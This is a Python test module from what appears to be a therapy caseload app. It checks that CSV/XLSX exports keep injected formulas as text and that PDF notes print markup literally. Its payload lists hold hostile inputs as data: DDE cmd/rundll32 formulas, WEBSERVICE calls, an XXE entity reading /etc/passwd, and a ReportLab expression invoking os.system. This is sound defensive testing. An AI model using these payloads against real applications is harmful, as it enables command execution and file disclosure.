# SPDX-License-Identifier: MIT
"""Item 10: texts that another program would carry out. Formulas in what is exported, read by LibreOffice, are texts;
markup in notes stands in the PDF letter by letter, and the file is sound.
"""

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Sequence
from dataclasses import astuple, dataclass, field, fields, replace
from itertools import islice, product
from pathlib import Path
from typing import TypeVar

import openpyxl
import pikepdf
from sqlalchemy import update

from otdesk.exchange.tables_out import bytes_for
from otdesk.printouts.session_note import session_notes
from otdesk.queries.exports import CaseloadLine, caseload_lines
from otdesk.queries.note_rows import NotePage
from otdesk.records.students import Student
from tests import vaults
from tests.caseload_sample import fill, house
from tests.clock import FixedClock
from tests.faults.outcome import Outcome
from tests.printouts import pdf_tools
from tests.printouts.paper_samples import NOTE, PRINTING

T = TypeVar("T")
FORMULAS = {False: 80, True: 500}
MARKUP = {False: 60, True: 2000}
FORMS = (".csv", ".xlsx")
PER_NOTE, PER_FILE = 4, 40

_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "=-", "-=", "+@", "@=")
_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULAS = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.invalid","click")', "cmd|' /C calc'!A0", "A1", "2+3+cmd|'/C x'!A0",
    'WEBSERVICE("http://x.invalid/"&A1)', 'IMPORTXML("http://x.invalid","//a")', "1,=1+1", "1;=1+1", '1","=1+1',
    "1\n=1+1", "1\t=1+1", "PI()", "NOW()", "$A$1", "DDE(\"cmd\";\"/C calc\";\"x\")", "{1}", "1%", "'Sheet1'!A1",
    "R1C1", "1E5*2",
    'MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe\'!""', "INDIRECT(\"A\"&1)", "TRUE()", "'", '"', "-1", "+1", "0x1",
    "1 1", "(1)", "Zoë", "ŁÓDŹ(1)", "rundll32|'URL.dll,OpenURL calc.exe'!A", "!A1", "#REF!", "[1]x!A1", "1&A1", "A:A",
    "1=1", "LET(x,1,x)", "LAMBDA(x,x)(1)", "RAND()", "ROW()", "CELL(\"filename\")", "INFO(\"system\")", "SUM(", "1/0",
    "^",
)  # fmt: skip
_OPEN = ("<b>", "<i>", "<u>", "<font color='red'>", "<font size=99>", "<a href='http://x.invalid'>", "<br/>", "<para>",
         "<img src='/etc/passwd'/>", "<img src='http://x.invalid/a.png'/>", "<link href='x'>", "<onDraw name='x'/>",
         "<super>", "<greek>", "<seq id='x'/>", "<index item='x'/>", "<bullet>", "<![CDATA[", "<!--", "<?xml?>",
         "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "<script>alert(1)</script>", "</para>", "</b>",
         "<font color=\"[[[getattr(pow,Word('__globals__'))['os'].system('id') for Word in [0]]]]\">")  # fmt: skip
_INSIDE = ("words", "&amp;", "&lt;b&gt;", "&b;", "&#65;", "&#x41;", "&nbsp;x", "%s %n", "{0}", "${HOME}", "a<b", "a>b",
           "a&b", "\\x41", "(a) Tj", "\\)", "endstream endobj", "/JavaScript", "<<>>", "3 < 4 > 2")  # fmt: skip
_CLOSE = ("", "</b>", "</font>", "</a>", "-->", "]]>", "/>", ">", "<", "&")


@dataclass
class Seen:
    fired: int = 0
    formulas: int = 0
    changed: int = 0
    figures: list[str] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    left_out: list[str] = field(default_factory=list)


def prove(*, full: bool, scratch: Path) -> Outcome:
    seen = Seen()
    formulas = [f"{sign}{rest}" for sign, rest in product(_SIGNS, _FORMULAS)]
    markup = ["".join(parts) for parts in product(_OPEN, _INSIDE, _CLOSE)]
    some = formulas[:: len(formulas) // FORMULAS[full]][: FORMULAS[full]]
    marks = markup[:: len(markup) // MARKUP[full]][: MARKUP[full]]
    _export(some, scratch, seen, office=shutil.which("soffice") if full else None)
    if full and shutil.which("soffice") is None:
        seen.left_out.append("LibreOffice is not on this machine: the cells were looked at as they are written")
    _print(marks, scratch, seen)
    injected = len(FORMS) * len(some) + len(marks)
    return Outcome(
        injected, seen.fired, lost=seen.changed, detected=seen.fired - seen.formulas, figures=tuple(seen.figures),
        failures=tuple(seen.failures[:12]), left_out=tuple(seen.left_out),
    )  # fmt: skip


def _parted(items: Sequence[T], size: int) -> list[Sequence[T]]:
    return [items[start : start + size] for start in range(0, len(items), size)]


# --- formulas --------------------------------------------------------------------------------------------------------


def _export(payloads: list[str], scratch: Path, seen: Seen, *, office: str | None) -> None:
    rows = _parted(payloads, 5)
    lines = _caseload(payloads, scratch)
    for form in FORMS:
        table, caseload = scratch / f"table{form}", scratch / f"caseload{form}"
        table.write_bytes(bytes_for(table, payloads[:5], rows))
        headings = [item.name for item in fields(CaseloadLine)]
        caseload.write_bytes(bytes_for(caseload, headings, [astuple(line) for line in lines]))
        found = _cells(table, scratch, office)
        missing = [payload for payload in payloads if not _is_kept(payload, found)]
        seen.fired += len(payloads) - len(missing)
        seen.failures += [f"not in {table.name} as a text: {payload!r}" for payload in missing]
        both = [*found, *_cells(caseload, scratch, office)]
        seen.formulas += sum(kind == "f" for _text, kind in both)
    reader = "LibreOffice" if office else "the cells themselves"
    seen.figures.append(
        f"{len(payloads)} formulas as CSV and XLSX, and a caseload of them: {seen.formulas} are one to {reader}"
    )
    if seen.formulas:
        seen.failures.append(f"{seen.formulas} cells are formulas")
    blind = scratch / "raw.csv"
    blind.write_text("a\n" + "".join(f"={number}+1\n" for number in range(20)), encoding="utf-8")
    if sum(kind == "f" for _text, kind in _cells(blind, scratch, office)) != 20:
        seen.failures.append("the check does not see formulas that are there")


def _caseload(payloads: list[str], scratch: Path) -> Sequence[CaseloadLine]:
    """The caseload as the command exports it, its students called after the payloads."""
    clock = FixedClock()
    with house(scratch / "vault", clock) as opened:
        fill(opened)
        with opened.vault.write("test", clock()) as work:
            for number, student in enumerate(work.db.query(Student.id).all()):
                first, last, teacher = islice(payloads, number * 3, number * 3 + 3)
                values = {"first": first, "last": last, "teacher": teacher}
                work.db.execute(update(Student).where(Student.id == student.id).values(values))
            work.final()
    vault = vaults.unlocked(scratch / "vault", clock())
    try:
        with vault.read() as db:
            return caseload_lines(db, clock.local().date())
    finally:
        vault.close()


def _cells(path: Path, scratch: Path, office: str | None) -> list[tuple[str, str]]:
    """(text, kind) of each cell, f for a formula: as LibreOffice takes the file, or as it is written."""
    if office is None and path.suffix == ".csv":
        rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
        return [(cell, "f" if cell.startswith(_STARTS) else "s") for row in rows for cell in row]
    if office is not None:
        profile, out = f"-env:UserInstallation={(scratch / 'profile').as_uri()}", scratch / "converted"
        told = ["--infilter=CSV:44,34,76,1"] if path.suffix == ".csv" else []  # commas, quotes, UTF-8, from line 1
        command = [office, profile, "--headless", *told, "--convert-to", "xlsx", "--outdir", str(out), str(path)]
        subprocess.run(command, capture_output=True, check=True, timeout=300)
        path = out / f"{path.stem}.xlsx"
    book = openpyxl.load_workbook(path)
    return [(str(cell.value), cell.data_type) for page in book for row in page.iter_rows() for cell in row
            if cell.value is not None]  # fmt: skip


def _is_kept(payload: str, cells: list[tuple[str, str]]) -> bool:
    """The payload came through as a text, behind its apostrophe."""
    wanted = _bare(payload)
    return any(kind == "s" and _bare(text) == wanted for text, kind in cells)


def _bare(text: str) -> str:
    return re.sub(r"\s|_x000D_", "", text).removeprefix("'")


# --- markup ----------------------------------------------------------------------------------------------------------


def _print(payloads: list[str], scratch: Path, seen: Seen) -> None:
    sound = files = 0
    for batch in _parted(_parted(payloads, PER_NOTE), PER_FILE):
        pdf = session_notes([_note(texts) for texts in batch], PRINTING).pdf
        said = _letters(pdf_tools.flat(pdf))
        for payload in (payload for texts in batch for payload in texts):
            there = _letters(payload) in said
            seen.fired += there
            if not there:
                seen.failures.append(f"not as it was typed: {payload!r}")
        pdf_tools.assert_sound(pdf, scratch)
        files, sound = files + 1, sound + 1
        if _acts(pdf):
            seen.failures.append("a page has a link or an action")
    seen.figures.append(f"{len(payloads)} texts with markup in notes, {files} PDF files, {sound} sound to qpdf")


def _note(texts: Sequence[str]) -> NotePage:
    did, response, skilled, plan = (*texts, "", "", "")[:4]
    return replace(NOTE, did=did, response=response, skilled=skilled, next_plan=plan)


def _letters(text: str) -> str:
    """Lines break where the column ends: the spaces say nothing."""
    return re.sub(r"\s", "", text)


def _acts(pdf: bytes) -> bool:
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        root = opened.Root
        return any("/Annots" in page for page in opened.pages) or "/OpenAction" in root or "/JavaScript" in root
